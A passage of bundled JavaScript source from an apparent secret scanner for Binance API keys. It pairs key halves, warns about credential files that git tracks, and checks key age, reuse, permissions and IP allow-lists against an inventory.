	for (const { a, b } of scored) if (!a.pair && !b.pair) join(a, b, crowded);
	cases.forEach((a, i) => {
		const b = cases[i + 1];
		if (b && !a.pair && !b.pair && underOneName(a, b)) joinInOrder(a, b);
	});
	const [a, b] = cases;
	if (a && b && cases.length === 2 && !a.pair && !b.pair && areAlone(a, b)) joinInOrder(a, b);
}
/** The only two of a file, of whose roles nothing tells. */
function areAlone({ observation: a, clues }, { observation: b, clues: others }) {
	return roleOf(clues).role === "unknown" && roleOf(others).role === "unknown" && a.fingerprint !== b.fingerprint && fits(a, b) && b.start.line - a.end.line <= 40;
}
/** `binance_keys = ["…", "…"]`: the name says key of both, and is the name of the two together. */
function underOneName({ observation: a, clues }, { observation: b, clues: others }) {
	const [first, second] = [roleOf(clues), roleOf(others)];
	return first.role === "api-key" && second.role === "api-key" && first.lead <= weakest && second.lead <= weakest && a.fingerprint !== b.fingerprint && fits(a, b) && b.start.line - a.end.line <= 1 && a.stem === b.stem;
}
/** Pairs what is left over across files: one key and one secret of the same name, or alone in the same folder. */
function pairAcross(cases) {
	const groups = /* @__PURE__ */ new Map();
	for (const item of cases) {
		if (item.pair || roleOf(item.clues).role === "unknown") continue;
		const { stem, path, environment } = item.observation;
		const folder = path.slice(0, path.lastIndexOf("/") + 1);
		if (stem !== "") require_gates.addToGroup(groups, `stem ${stem} ${environment}`, item);
		require_gates.addToGroup(groups, `folder ${folder}`, item);
	}
	for (const group of groups.values()) {
		const open = group.filter(({ pair }) => !pair);
		const distinct = new Set(open.map(({ observation }) => observation.fingerprint));
		const [a, b] = open;
		if (a && b && distinct.size === 2 && open.length === 2 && complementary(a, b)) join(a, b, false);
	}
}
/** How surely two values are halves of one credential; 0 when they cannot be. */
function scoreOf(a, b, role) {
	const first = a.observation;
	const second = b.observation;
	if (first.fingerprint === second.fingerprint || !fits(first, second) || !fitting(role(a), role(b))) return 0;
	const told = [a, b].filter((item) => role(item) !== "unknown").length;
	const distance = Math.abs(second.start.line - first.end.line);
	const together = first.containers.some((container) => container > 0 && second.containers.includes(container)) ? 4 : 0;
	const differs = told > 0 && first.stem !== "" && second.stem !== "" && first.stem !== second.stem;
	const alike = first.stem !== "" && first.stem === second.stem ? 3 : differs ? -2 : 0;
	const near = distance <= 1 ? 3 : distance <= 3 ? 2 : distance <= 8 ? 1 : 0;
	if (first.environment !== second.environment && first.environment !== "unknown" && second.environment !== "unknown") return 0;
	const foreign = together === 0 && [a, b].some(({ clues }) => clues.some(({ group }) => group === "foreign" || group === "use")) ? -3 : 0;
	return together + alike + near + foreign + (distance <= 40 ? told : 0);
}
/** Keys of one kind, or an API key with a private key. */
function fits(a, b) {
	const kinds = [a.shape, b.shape];
	if (kinds.every((kind) => kind === "alnum64") || kinds.every((kind) => kind === "fernet") || kinds.every((kind) => kind === "hex64")) return true;
	return kinds.includes("alnum64") && kinds.some((kind) => kind === "private-key" || kind === "encrypted-private-key");
}
/** Whether their roles are, or may be, the two halves. */
function complementary(a, b) {
	return fitting(roleOf(a.clues).role, roleOf(b.clues).role);
}
function fitting(...roles) {
	if (roles.includes("unknown")) return true;
	return roles.includes("api-key") && roles.some((role) => role === "secret" || role === "private-key");
}
function joinInOrder(a, b) {
	a.pair = b;
	b.pair = a;
	a.clues.push(clue("role-order", "it stands before the other half", "api-key"));
	b.clues.push(clue("role-order", "it stands after the other half", "secret"));
}
/** @param crowded the file holds secrets of several services, so that two named halves say little of whose they are. */
function join(a, b, crowded) {
	const other = {
		"api-key": "secret",
		secret: "api-key",
		"private-key": "api-key",
		unknown: void 0
	};
	const [first, second] = [roleOf(a.clues), roleOf(b.clues)];
	if (first.role === "unknown" && second.role === "unknown") {
		joinInOrder(a, b);
		return;
	}
	a.pair = b;
	b.pair = a;
	const toFirst = other[second.role];
	const toSecond = other[first.role];
	if (toFirst && first.lead < second.lead) a.clues.push(clue("role-other-half", `the other half is ${spoken(second.role)}`, toFirst));
	else if (toSecond && second.lead < first.lead) b.clues.push(clue("role-other-half", `the other half is ${spoken(first.role)}`, toSecond));
	for (const [own, other] of [[a, b], [b, a]]) if (isOwn(own) && !isOwn(other) && isOtherwise(other)) other.clues.push(clue("half-of-own", "its other half is Binance’s"));
	if (!crowded && named(a) && named(b)) for (const item of [a, b]) item.clues.push(clue("named-pair", "its other half is named beside it"));
}
function isOwn({ clues }) {
	return clues.some(({ group, question }) => question === "binance" && group === "own");
}
/** Whether its name says that it is something else, or another's. */
function isOther({ clues }) {
	return clues.some(({ group }) => group === "foreign" || group === "use");
}
function isOtherwise({ clues }) {
	return clues.some(({ group }) => group === "otherwise");
}
function named({ clues }) {
	return counted(clues).some(({ signal }) => signal === "role-name" || signal === "role-label" || signal === "role-key");
}
function spoken(role) {
	return role === "api-key" ? "the API key" : role === "secret" ? "the secret" : "the private key";
}
// ../engine/dist/risks/files/file-findings.js
/** Files that hold credentials by their names, and what git does with them → findings, in projects of Binance. */
const credentialRules = /* @__PURE__ */ new Set([
	"secret-key",
	"api-key",
	"private-key"
]);
/**
* One finding for each file. `others`: the findings in what documents say; a credential of Binance among them tells of
* its own file that it is filled, and of the project whose it is.
*/
function fileFindings(observations, others, project, repository) {
	const files = withoutSeconds(observations.filter((one) => one.kind === "file"));
	if (files.length === 0) return [];
	const sure = others.filter(({ confidence }) => confidence !== "possible");
	const credentials = /* @__PURE__ */ new Map();
	for (const one of sure) if (credentialRules.has(one.rule)) require_gates.addToGroup(credentials, documentKey(one), one);
	const loaded = new Set(observations.flatMap((one) => one.kind === "project" ? one.keyFiles : []));
	return files.flatMap((file) => {
		const own = credentials.get(documentKey(file)) ?? [];
		const kind = require_gates.credentialFile(file.path);
		const isFilled = file.filled === true || own.length > 0;
		const name = file.path.slice(file.path.lastIndexOf("/") + 1);
		if (!(kind?.isDedicated === true || !file.exists || own.length > 0 && (file.filled === true || !require_gates.isAnyConfiguration(file.path)) || kind?.kind === "env" && isFilled || kind?.kind === "key" && isFilled && loaded.has(name))) return [];
		const isElsewhere = sure.some(({ path, rule }) => path !== file.path && rule !== "unused-ignore");
		const clues = [
			isFilled ? clue("plain-risk", "the file holds credentials") : clue("likely-risk", "its name says that credentials belong in it"),
			...own.length > 0 ? [clue("binance-credential", "a credential of Binance stands in it")] : [],
			...file.namesBinance ? [clue("binance-variables", "it names Binance itself")] : [],
			...file.exists ? [] : [clue("binance-word", "what expects it speaks of Binance")],
			...isElsewhere ? [clue("binance-elsewhere", "another file has credentials or settings of Binance")] : [],
			...loaded.has(name) ? [clue("key-file-named", "a program that calls Binance loads this file")] : [],
			...toldByPath(file.path).clues,
			...project(file.path)
		];
		const confidence = total(clues, "binance") > 0 ? confidenceOf(clues, "risk") : void 0;
		if (!confidence) return [];
		const { rule, message } = told(file, isFilled);
		const whole = file.exists && (isFilled || file.filled === void 0) ? "high" : "low";
		const { path, origin } = file;
		const start = {
			line: 1,
			column: 1
		};
		const { environment, sample } = toldByPath(path);
		return [{
			rule,
			role: "unknown",
			severity: require_first.lessened(whole, {
				environment,
				sample
			}),
			confidence,
			message: require_worth_reading.withoutValues(message),
			masked: "",
			fingerprint: identityOf(rule, path, ""),
			environment,
			...repository.name === void 0 ? {} : { repository: repository.name },
			path,
			start,
			end: start,
			origin,
			evidence: counted(clues).map(({ signal, bits, says }) => ({
				signal,
				bits,
				says
			}))
		}];
	});
}
/** Of one file that git has or would add, it is not told as well that an image carries it. */
function withoutSeconds(files) {
	const open = new Set(files.filter(({ state }) => state !== "published").map(documentKey));
	const told = /* @__PURE__ */ new Set();
	return files.filter((file) => {
		const key = documentKey(file);
		if (file.state !== "published") return true;
		return !open.has(key) && !told.has(key) && told.add(key);
	});
}
/** The rule, and its sentence: the fact, what tells so, the remedy. */
function told({ path, origin, state, exists, because, remedy, isCommitted }, isFilled) {
	const line = remedy ? `; add the line ${remedy.line} to ${remedy.file}` : "";
	const what = isFilled ? " with credentials in it" : "";
	const name = path.slice(path.lastIndexOf("/") + 1);
	switch (state) {
		case "addable": return {
			rule: "env-not-ignored",
			message: exists ? `The next git add . takes ${name}${what}: ${because}${line}` : `${because}, and nothing keeps git from adding it${line}`
		};
		case "published": return {
			rule: "env-not-ignored",
			message: `git ignores ${name}${what}, but ${because}${line}`
		};
		case "tracked": {
			const out = `git rm --cached ${shellWord(path)} takes it out`;
			const keeps = remedy ? `, and the line ${remedy.line} in ${remedy.file} keeps it out` : "";
			return {
				rule: "env-tracked",
				message: origin.kind === "staged" ? `The commit has ${name}${what}: whoever gets the commit gets the file, also where a later one deletes it${isCommitted ? "" : `; before it is made, ${out}${keeps}`}` : `git tracks ${name}${what}${because && `: ${because}`}; ${out} of the next commit${keeps}`
			};
		}
		case "stored": return {
			rule: "env-tracked",
			message: `The history has ${name}${what}: whoever clones the repository has it too, also where it was deleted`
		};
		default: return state;
	}
}
/** As a shell takes it. */
function shellWord(path) {
	return /^[\w./+@%,:=-]+$/.test(path) && !path.startsWith("-") ? path : `'${path.replaceAll("'", `'\\''`)}'`;
}
// ../engine/dist/risks/keys/held-keys.js
/** Keys that were found, as the rules about their use see them: one for each place where a real key stands now. */
const keyRules = /* @__PURE__ */ new Set([
	"api-key",
	"secret-key",
	"private-key"
]);
/** @param judged each observation with the finding that it earned */
function heldKeys(judged, { objects }) {
	return judged.flatMap(({ observation, finding }) => {
		if (!keyRules.has(finding.rule)) return [];
		const { sample, service, path } = observation;
		const object = objectOf(observation);
		return [{
			finding,
			paths: observation.origin.kind !== "history" ? [path] : (objects?.get(object ?? "")?.places ?? []).filter((place) => place.atHead === true && (place.readAs ?? place.path) === path).map((place) => place.path),
			sample,
			...service !== void 0 && { service }
		}];
	});
}
/** What people call it. */
function nounOf({ role }) {
	if (role === "api-key") return "API key";
	if (role === "private-key") return "private key";
	return role === "secret" ? "secret key" : "key";
}
/** `a, b and 2 more`. */
function listed(names, most = 3) {
	const shown = names.slice(0, most);
	if (names.length > most) return `${shown.join(", ")} and ${String(names.length - most)} more`;
	return shown.length > 1 ? `${shown.slice(0, -1).join(", ")} and ${shown.at(-1) ?? ""}` : shown[0] ?? "";
}
// ../engine/dist/risks/keys/git-age-findings.js
/** Keys that git has held too long and HEAD still has → findings of `key-age`. Of a folded history only. */
/**
* One for each pair, at the API key: it is one key to Binance, and its two halves came in together. Not for what is only
* in the past, since its own finding says all there is to say; nor for samples and what is not live, since nobody renews
* them.
* @param real the fingerprints that stand anywhere else than in samples
*/
function gitAgeFindings(folded, real, repository) {
	const aged = folded.filter(({ rule, environment, fingerprint, confidence }) => (rule === "api-key" || rule === "secret-key" || rule === "private-key") && environment !== "testnet" && environment !== "demo" && confidence !== "possible" && real.has(fingerprint)).filter(({ origin }) => origin.kind === "history" && origin.atHead && require_gates.isOverdue(origin.exposedDays ?? 0, repository));
	const apiKeys = new Set(aged.filter(({ rule }) => rule === "api-key").map(({ fingerprint }) => fingerprint));
	return aged.filter(({ rule, pair }) => rule === "api-key" || pair === void 0 || !apiKeys.has(pair)).map((finding) => agedFinding(finding, repository));
}
function agedFinding(finding, repository) {
	const { origin, environment } = finding;
	const exposed = origin.kind === "history" ? origin : void 0;
	const day = exposed?.firstCommit?.date.slice(0, 10) ?? "";
	const since = exposed?.isCut ? `since ${day} at least` : `since ${day}`;
	return {
		...finding,
		rule: "key-age",
		severity: require_first.lessened("low", {
			sample: false,
			environment
		}),
		message: `This Binance ${nounOf(finding)} is in git ${since}, ${String(exposed?.exposedDays)} days, and still in use here; a key is to be renewed within ${String(require_gates.keyAgeOf(repository))} days`
	};
}
const trading = [
	"spot",
	"margin",
	"futures",
	"options",
	"portfolio-margin",
	"fix-trading"
];
const derived = [
	"margin",
	"futures",
	"options",
	"portfolio-margin"
];
const transfers = ["universal-transfer", "internal-transfer"];
const readingOnly = ["reading", "fix-reading"];
const words = (list) => list.join(", ");
const trades = ({ permissions = [] }) => permissions.some((one) => trading.includes(one));
/** Whether it counts as a key that works: testnet keys move no money, revoked ones nothing. */
const works = ({ state, environment }) => (state === "active" || state === "retiring") && environment === "live";
/** In the order of the entries. */
function practiceProblems({ keys }, repository) {
	const problems = [];
	keys.forEach((key, i) => {
		const tell = (field, what, fact) => {
			problems.push({
				at: [
					"keys",
					i,
					...field
				],
				message: `“${key.name}” ${fact}`,
				name: `${key.name}\0${what}`
			});
		};
		if (!works(key)) return;
		aboutRights(key, tell);
		aboutAddresses(key, repository, tell);
		aboutAge(key, repository, tell);
		if (key.fingerprints.length === 0) tell([], "fingerprints", "has no fingerprint, so no scan can know it; bnguard keys add --stdin takes it from the key");
	});
	return [
		...problems,
		...sharedProblems(keys),
		...crowds(keys)
	];
}
function aboutRights(key, tell) {
	const { permissions, purpose, strategies } = key;
	if (permissions === void 0) {
		tell([], "permissions", "does not say what it may do: list its permissions");
		return;
	}
	const at = (which) => ["permissions", permissions.findIndex(which)];
	const having = (some) => permissions.filter((one) => some.includes(one));
	if (permissions.includes("withdrawals")) tell(at((one) => one === "withdrawals"), "withdrawals", "may withdraw: switch withdrawals off");
	const moving = having(transfers);
	if (moving.length > 0 && purpose !== "transfers") tell(at((one) => transfers.includes(one)), "transfers", `may move funds (${words(moving)}), which its purpose does not ask for: switch it off, or keep a key for transfers alone`);
	if (purpose === "dashboard" || purpose === "reporting") {
		const more = permissions.filter((one) => !readingOnly.includes(one));
		if (more.length > 0) tell(at((one) => !readingOnly.includes(one)), "read-only", `is for ${purpose === "dashboard" ? "a dashboard" : "reporting"} and may do more than read (${words(more)}): give it a key that only reads`);
	} else if (purpose === "transfers" && trades(key)) tell(at((one) => trading.includes(one)), "transfers-trade", "is for transfers and may trade too: one key for each");
	const kinds = having(derived);
	if (kinds.length > 2) tell(at((one) => one === kinds[2]), "broad", `may trade more than one strategy needs (${words(kinds)}): leave only what its strategy uses`);
	if (trades(key) && key.subAccount === void 0) tell([], "master", "trades on the master account: give its strategy a sub-account, and name it as subAccount");
	if (strategies.length > 1) tell(["strategy"], "strategies", `serves ${String(strategies.length)} strategies: one key and one sub-account for each`);
}
function aboutAddresses(key, { asOf }, tell) {
	const { ips, permissions = [] } = key;
	if (permissions.some((one) => !readingOnly.includes(one)) && (ips === void 0 || ips.length === 0)) tell(ips ? ["ips"] : [], "no-ips", "has no IP list and may do more than read: restrict it to the addresses of its servers");
	const seen = /* @__PURE__ */ new Set();
	ips?.forEach(({ address, until }, j) => {
		const fault = faultOfAddress(address) ?? (isAddress(address.trim()) ? void 0 : "what is no IP address");
		if (fault !== void 0) tell(["ips", j], `ip\0${address}`, `has in its IP list ${fault}`);
		else if (seen.has(normalAddress(address))) tell(["ips", j], `ip-twice\0${address}`, "has an address twice in its IP list");
		seen.add(normalAddress(address));
		const late = require_gates.daysBetween(until, asOf);
		if (late !== void 0 && late > 0) tell([
			"ips",
			j,
			"until"
		], `until\0${address}`, `has an address that was to leave its IP list after ${until ?? ""}: take it out at Binance, then here`);
	});
	if (ips !== void 0 && ips.length > 30) tell(["ips", 30], "ips-many", `has ${String(ips.length)} addresses in its IP list; Binance takes ${String(30)} at most`);
}
function aboutAge(key, repository, tell) {
	const { created, rotated } = key;
	const since = lastRenewal(key);
	if (since === void 0) {
		tell([], "created", "has no created date, so nobody knows when it is to be renewed");
		return;
	}
	const field = since === rotated ? "rotated" : "created";
	if (created !== void 0 && rotated !== void 0 && rotated < created) tell(["rotated"], "dates", "was renewed before it was created: correct the dates");
	const days = require_gates.daysBetween(since, repository.asOf);
	if (days === void 0) return;
	if (days < 0) tell([field], "future", `is ${field} on a day that is still to come (${since}): correct the date`);
	else if (require_gates.isOverdue(days, repository)) {
		const limit = String(require_gates.keyAgeOf(repository));
		tell([field], "age", `was last renewed on ${since}, ${String(days)} days ago; a key is to be renewed within ${limit} days`);
	}
}
/** The day from which its age counts. */
function lastRenewal({ created, rotated }) {
	if (created === void 0 || rotated === void 0) return rotated ?? created;
	return rotated > created ? rotated : created;
}
/** What two entries must not have in common: a value, a strategy, a sub-account. */
function sharedProblems(keys) {
	const problems = [];
	const first = {
		fingerprint: /* @__PURE__ */ new Map(),
		strategy: /* @__PURE__ */ new Map()
	};
	const subAccounts = /* @__PURE__ */ new Map();
	keys.forEach((key, i) => {
		const tell = (field, what, fact) => {
			problems.push({
				at: [
					"keys",
					i,
					...field
				],
				message: `“${key.name}” ${fact}`,
				name: `${key.name}\0${what}`
			});
		};
		key.fingerprints.forEach((fingerprint, j) => {
			const other = first.fingerprint.get(fingerprint);
			if (other === void 0) first.fingerprint.set(fingerprint, key.name);
			else tell(["fingerprints", j], `same\0${fingerprint}`, `is the same value as “${other}”: keep one entry`);
		});
		if (!works(key) || key.state === "retiring" || !trades(key)) return;
		for (const strategy of key.strategies) {
			const other = first.strategy.get(strategy);
			if (other === void 0) first.strategy.set(strategy, key.name);
			else if (other !== key.name) tell(["strategy"], `strategy\0${strategy}`, `trades the strategy of “${other}” too: one key for each, and state: retiring for the one that goes`);
		}
		if (key.subAccount === void 0) return;
		const place = `${key.account ?? ""}\0${key.subAccount}`;
		const beside = subAccounts.get(place);
		if (beside === void 0) subAccounts.set(place, key);
		else if (beside.strategies.join("\0") !== key.strategies.join("\0")) tell(["subAccount"], "sub-account", `trades on the sub-account of “${beside.name}”, another strategy: one sub-account for each`);
	});
	return problems;
}
/** More keys or sub-accounts than Binance allows, told at the first one too many. */
function crowds(keys) {
	const problems = [];
	const perAccount = /* @__PURE__ */ new Map();
	const subAccounts = /* @__PURE__ */ new Map();
	keys.forEach((key, i) => {
		if (!works(key)) return;
		const { account = "", subAccount = "", name } = key;
		const place = `${account}\0${subAccount}`;
		const count = (perAccount.get(place) ?? 0) + 1;
		perAccount.set(place, count);
		if (count === 31) {
			const message = `“${name}” is key ${String(count)} of its account; one account is to have ${String(30)} at most`;
			problems.push({
				at: ["keys", i],
				message,
				name: `${name}\0keys`
			});
		}
		if (subAccount === "") return;
		const known = subAccounts.get(account) ?? /* @__PURE__ */ new Set();
		subAccounts.set(account, known);
		const isNew = !known.has(subAccount);
		known.add(subAccount);
		if (isNew && known.size === 201) {
			const message = `“${name}” is on sub-account ${String(known.size)} of its account; one account is to have ${String(200)} at most`;
			problems.push({
				at: [
					"keys",
					i,
					"subAccount"
				],
				message,
				name: `${name}\0sub-accounts`
			});
		}
	});
	return problems;
}
// ../engine/dist/risks/keys/inventory-findings.js
/** The inventory against good practice, and found keys against the inventory → findings of `inventory-mismatch`. */
const rule = "inventory-mismatch";
/** @param seen every fingerprint that was seen at all, finding or not, with the paths that have it now */
function inventoryFindings(keys, seen, repository) {
	const { inventory } = repository;
	if (!inventory) return [];
	const entries = /* @__PURE__ */ new Map();
	inventory.keys.forEach((key, i) => {
		for (const fingerprint of key.fingerprints) if (!entries.has(fingerprint)) entries.set(fingerprint, [key, i]);
	});
	const byValue = /* @__PURE__ */ new Map();
	for (const key of keys) for (const path of key.paths) require_gates.addToGroup(byValue, key.finding.fingerprint, {
		key,
		path
	});
	return [
		...inventory.isJudged ? [...practiceProblems(inventory, repository), ...goneProblems(inventory, seen)].map((problem) => entryFinding(problem, inventory, repository)) : [],
		...unknownKeys(byValue, entries, inventory),
		...brokenPromises(byValue, entries, inventory)
	];
}
function entryFinding({ at, message, name }, { path, origin, placeOf }, repository) {
	const start = placeOf(at);
	return {
		rule,
		role: "unknown",
		severity: "medium",
		confidence: "certain",
		masked: "",
		environment: "unknown",
		message: require_worth_reading.withoutValues(message),
		fingerprint: identityOf(rule, path, name),
		...repository.name === void 0 ? {} : { repository: repository.name },
		path,
		start,
		end: start,
		origin,
		evidence: []
	};
}
/** Entries that name the files which hold them, where those were read, or are no more, and none holds them. */
function goneProblems({ keys }, seen) {
	return keys.flatMap((key, i) => {
		const { expectedIn, fingerprints, state, name } = key;
		if (state === "revoked" || state === "planned" || expectedIn === void 0 || fingerprints.length === 0) return [];
		if (!(expectedIn.length > 0 && expectedIn.every((place) => place.seen !== void 0)) || fingerprints.some((one) => (seen.get(one)?.size ?? 0) > 0)) return [];
		const message = `“${name}” is expected in ${listed(expectedIn.map(({ pattern }) => pattern))}, and no file has it any more: correct the entry, or mark it as revoked`;
		return [{
			at: [
				"keys",
				i,
				"expectedIn"
			],
			message,
			name: `${name}\0gone`
		}];
	});
}
/** One for each pair. Examples, tests and what is not live need no entry. */
function unknownKeys(byValue, entries, { path }) {
	const unknown = /* @__PURE__ */ new Map();
	for (const [fingerprint, standings] of byValue) {
		const at = standings.find(({ key }) => !key.sample && !require_first.isTestnet(key.finding))?.key.finding;
		if (at && !entries.has(fingerprint)) unknown.set(fingerprint, at);
	}
	return [...unknown.values()].flatMap((at) => {
		if (at.pair !== void 0 && (entries.has(at.pair) || at.rule !== "api-key" && unknown.get(at.pair)?.rule === "api-key")) return [];
		return [{
			...mismatchAt(at),
			message: `This Binance ${nounOf(at)} is in no entry of ${path}`
		}];
	});
}
function brokenPromises(byValue, entries, inventory) {
	return [...byValue].flatMap(([fingerprint, standings]) => {
		const [entry, i] = entries.get(fingerprint) ?? [];
		if (!entry || i === void 0) return [];
		const line = String(inventory.placeOf(["keys", i]).line);
		const told = /* @__PURE__ */ new Map();
		for (const { key, path } of standings) {
			const broken = promiseBrokenBy(entry, path);
			if (broken === void 0 || told.has(key.finding)) continue;
			const message = require_worth_reading.withoutValues(`This Binance ${nounOf(key.finding)} is “${entry.name}” (${inventory.path}:${line}), ${broken}`);
			told.set(key.finding, {
				...mismatchAt(key.finding),
				message
			});
		}
		return [...told.values()];
	});
}
function promiseBrokenBy({ state, inCode, expectedIn }, path) {
	if (state === "revoked") return "which is marked as revoked, and still stands here";
	if (inCode === false) return "which is to stand in no file, and stands here";
	if (expectedIn?.length && !expectedIn.some((place) => place.covers(path))) return `which may stand only in ${listed(expectedIn.map(({ pattern }) => pattern))}, and stands here`;
}
function mismatchAt(finding) {
	return {
		...finding,
		rule,
		severity: "medium"
	};
}
// ../engine/dist/risks/keys/reuse-findings.js
/** Keys that serve several bots, services or repositories → findings of `key-reused`, at each place where one stands. */
/** Samples and examples serve nobody, so they do not count. */
function reuseFindings(keys, repository) {
	const folders = new Set(repository.services);
	const byValue = /* @__PURE__ */ new Map();
	for (const key of keys) {
		if (key.sample) continue;
		for (const path of key.paths) require_gates.addToGroup(byValue, key.finding.fingerprint, {
			key,
			path,
			folder: require_gates.serviceOf(path, folders)
		});
	}
	return [...byValue].flatMap(([fingerprint, standings]) => reused(standings, repository.elsewhere?.get(fingerprint) ?? []));
}
function reused(standings, elsewhere) {
	const folders = withoutShared(standings);
	const named = standings.filter(({ key }) => key.service !== void 0);
	const services = distinct$2(folders.map(({ folder = "" }) => folder));
	const units = distinct$2(named.map(({ key, path }) => unitOf(key.service ?? "", path)));
	const told = /* @__PURE__ */ new Map();
	const tell = (some, whom) => {
		for (const { key } of some) if (!told.has(key.finding)) told.set(key.finding, findingOf$1(key, whom));
	};
	if (services.length > 1) tell(folders, `serves ${String(services.length)} bots or services: ${listed(services.map(shown))}`);
	if (units.length > 1) {
		const names = units.map((one) => one.slice(one.indexOf("\0") + 1));
		tell(named, `serves ${String(units.length)} services: ${listed(names)}`);
	}
	if (elsewhere.length > 0) tell(standings, `serves other repositories too: ${listed(elsewhere)}`);
	return [...told.values()];
}
/** A .env above several services is read by them; it stands for no service of its own there. */
function withoutShared(standings) {
	const above = /* @__PURE__ */ new Set();
	for (const { folder } of standings) {
		if (folder === void 0 || folder === "") continue;
		above.add("");
		for (let end = folder.lastIndexOf("/"); end > 0; end = folder.lastIndexOf("/", end - 1)) above.add(folder.slice(0, end));
	}
	return standings.filter(({ folder, path }) => folder !== void 0 && !(above.has(folder) && require_gates.servesBelow(path)));
}
/** The same name in another file of the same folder is the same service. */
const unitOf = (service, path) => `${path.slice(0, path.lastIndexOf("/") + 1)}\0${service}`;
const shown = (folder) => folder === "" ? "the top folder" : folder;
const distinct$2 = (names) => [...new Set(names)].sort();
function findingOf$1({ finding }, whom) {
	return {
		...finding,
		rule: "key-reused",
		severity: require_first.lessened("medium", {
			sample: false,
			environment: finding.environment
		}),
		message: require_worth_reading.withoutValues(`This Binance ${nounOf(finding)} ${whom}`)
	};
}
// ../engine/dist/risks/risk-findings.js
function riskFindings(observations, project, repository) {
	return distinct$1(observations.filter((one) => one.kind === "risk")).flatMap((risk) => riskFinding(risk, [...risk.clues, ...project(risk.path)], repository) ?? []);
}
/** The finding that a risk earns by all that speaks about it, if any. */
function riskFinding(risk, clues, repository = {}) {
	const confidence = confidenceOf(clues, "risk");
	const message = risk.since === void 0 ? risk.message : agedMessage(risk.message, risk, repository);
	if (!confidence || message === void 0) return void 0;
	const { rule, fingerprint, environment, path, start, end, origin } = risk;
	return {
		rule,
		role: "unknown",
		severity: require_first.lessened(risk.severity, risk),
		confidence,
		message,
		masked: "",
		fingerprint,
		environment,
		...repository.name === void 0 ? {} : { repository: repository.name },
		path,
		start,
		end,
		origin,
		evidence: counted(clues).map(({ signal, bits, says }) => ({
			signal,
			bits,
			says
		}))
	};
}
/** Undefined where it is not old enough, or nobody says what day it is. */
function agedMessage(message, { since, sample }, repository) {
	const days = require_gates.daysBetween(since, repository.asOf);
	if (sample || days === void 0 || !require_gates.isOverdue(days, repository)) return void 0;
	return `${message}, ${String(days)} days ago; a key is to be renewed within ${String(require_gates.keyAgeOf(repository))} days`;
}
/** One observation for each rule and place: windows of a file overlap. */
function distinct$1(risks) {
	const places = /* @__PURE__ */ new Map();
	for (const risk of risks) {
		const { rule, start } = risk;
		places.set(`${documentKey(risk)}\0${rule}\0${String(start.line)}:${String(start.column)}`, risk);
	}
	return [...places.values()];
}
// ../engine/dist/sentence.js
const nouns = {
	secret: "secret key",
	"api-key": "API key",
	"private-key": "private key",
	unknown: "key (API key or secret)"
};
const nounsOfShapes = {
	"encrypted-private-key": "encrypted private key",
	"listen-key": "listen key",
	passphrase: "private key’s passphrase",
	signature: "request with API key and signature"
};
/** `Binance testnet secret key passed as argument 2 of new Spot(…)`. */
function messageOf(observation, role, confidence) {
	const { environment, shape, documented, use } = observation;
	const noun = nounsOfShapes[shape] ?? nouns[role];
	if (documented) return `Example ${noun} from Binance’s documentation, ${use}`;
	return `${[
		confidence === "possible" ? "Possibly a Binance" : "Binance",
		require_first.isTestnet({ environment }) ? environment : "",
		noun
	].filter((word) => word !== "").join(" ")} ${use}`;
}
// ../engine/dist/conclude.js
/**
* Observations + repository → findings. Pure. Here one document's clues meet what the others say: the project, the
* same value elsewhere, the other half; then each case is judged, named, and perhaps suppressed.
*/
/** What the observations of one repository amount to. Findings are sorted by path, place and rule. */
function conclude(observations, repository = {}) {
	const credentials = distinct(observations.filter((one) => one.kind === "credential"));
	const ignores = observations.filter((one) => one.kind === "ignore");
	const project = projectClues(observations, repository);
	const cases = casesOf(credentials, observations, project);
	const judged = cases.flatMap((item) => {
		const finding = findingOf(item, repository);
		return finding ? [{
			observation: item.observation,
			finding
		}] : [];
	});
	const inContent = [...withKeys(judged.map(({ finding }) => finding)), ...riskFindings(observations, project, repository)];
	const findings = [...inContent, ...fileFindings(observations, inContent, project, repository)];
	const folded = findings[0]?.origin.kind === "history" ? foldHistory(findings, repository) : void 0;
	const keys = heldKeys(judged, repository);
	const told = folded ? withHygieneOf(folded, keys, repository) : [...findings, ...hygiene(keys, cases, repository)];
	const { findings: kept, suppressed } = suppress(told, ignores, repository, folded);
	const located = lineHashesOf(observations);
	return {
		findings: withPairs(kept, told).map(located).sort(inOrder),
		suppressed: suppressed.map(located).sort(inOrder)
	};
}
/** Gives findings the hashes of the lines that they begin in. */
function lineHashesOf(observations) {
	const hashes = new Map(observations.flatMap((one) => "lineHash" in one && one.lineHash ? [[`${documentKey(one)}\0${one.start.line}`, one.lineHash]] : []));
	return (finding) => {
		const lineHash = hashes.get(`${documentKey(finding)}\0${finding.start.line}`);
		return lineHash === void 0 ? finding : {
			...finding,
			lineHash
		};
	};
}
/** What is told of keys as such: one serves several, an inventory does not know it. */
function hygiene(keys, cases, repository) {
	const seen = /* @__PURE__ */ new Map();
	for (const { observation } of cases) require_gates.addToSet(seen, observation.fingerprint, observation.path);
	return [...reuseFindings(keys, repository), ...inventoryFindings(keys, seen, repository)];
}
/** The same of a history: of each value once, and of what HEAD still has. Adds to what the findings are folded from. */
function withHygieneOf(folded, keys, repository) {
	const values = new Map([...folded.keys()].map((finding) => [finding.fingerprint, finding]));
	const whole = keys.flatMap((key) => {
		const finding = values.get(key.finding.fingerprint);
		return finding ? [{
			...key,
			finding
		}] : [];
	});
	const real = new Set(whole.flatMap(({ finding, sample }) => sample ? [] : [finding.fingerprint]));
	const { inventory, ...rest } = repository;
	const about = inventory ? {
		...rest,
		inventory: {
			...inventory,
			isJudged: false
		}
	} : repository;
	const told = [
		...gitAgeFindings([...folded.keys()], real, repository),
		...reuseFindings(whole, about),
		...inventoryFindings(whole, /* @__PURE__ */ new Map(), about)
	];
	const once = new Map(told.map((finding) => [`${finding.rule}\0${finding.fingerprint}`, finding]));
	for (const finding of once.values()) {
		const from = values.get(finding.fingerprint);
		if (from) folded.set(finding, folded.get(from));
	}
	return [...folded.keys()];
}
/** What an editor uses: one document, and what it knows of its repository, if anything. */
function detect(document, repository = {}) {
	return conclude(observe(document), repository);
}
/** Everything that speaks about each credential, from all documents. */
function casesOf(credentials, observations, project) {
	const named = namedElsewhere(observations);
	const cases = credentials.map((observation) => ({
		observation,
		clues: [
			...observation.clues,
			...project(observation.path),
			...named(observation)
		]
	}));
	shareBetweenEqualValues(cases);
	const byPath = groupByPath(cases);
	for (const group of byPath.values()) pairWithin(group);
	pairAcross(cases.filter(({ clues }) => confidenceOf(clues) !== "possible" && confidenceOf(clues) !== void 0));
	return cases;
}
function groupByPath(cases) {
	const groups = /* @__PURE__ */ new Map();
	for (const item of cases) require_gates.addToGroup(groups, documentKey(item.observation), item);
	return groups;
}
